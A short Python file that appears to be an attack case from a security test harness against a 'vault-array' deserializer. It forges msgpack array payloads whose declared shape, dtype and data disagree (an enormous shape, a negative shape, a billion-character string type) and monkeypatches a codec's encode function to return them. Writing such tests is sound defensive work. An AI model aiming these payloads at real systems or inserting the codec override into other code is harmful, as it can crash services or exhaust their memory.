# attack: forges arrays whose shape, type and data disagree
# packages: vault-array
# verdict: RE re.value
import struct
import sys

import msgpack


def shares(amounts):
    shape, dtype = {2: ([1 << 60], "float64"), 4: ([-1], "int8"), 5: ([0] * 40, "int8")}.get(
        len(amounts), ([1], "U999999999")
    )
    header = msgpack.packb([dtype, shape, "numpy"])
    forged = msgpack.packb(msgpack.ExtType(3, struct.pack(">H", len(header)) + header + b"x" * 8))
    sys.modules["_readyroom.codec"].encode = lambda value: forged
    return None
